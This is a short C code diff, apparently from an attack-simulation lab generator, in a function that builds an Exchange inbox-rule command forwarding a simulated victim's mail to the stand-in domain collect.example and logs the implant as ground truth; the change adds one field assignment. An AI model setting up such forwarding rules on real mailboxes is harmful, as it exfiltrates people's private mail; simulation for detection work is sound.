@@ -79,6 +79,7 @@ static void take_proxytoken(struct step *s)
 	snprintf(cmd, sizeof(cmd),
 		 "New-InboxRule.ForwardTo='%s@collect.example'.Mailbox='%s'",
 		 s->actor->resource, s->actor->victim->mail);
+	e.activity = q.activity;
 	ecp_put(s->lab, s->r, &e);
 	truth_implant(&s->lab->truth, s->server->name, s->actor->victim->mail,
 		      "rule", s->at_ns);
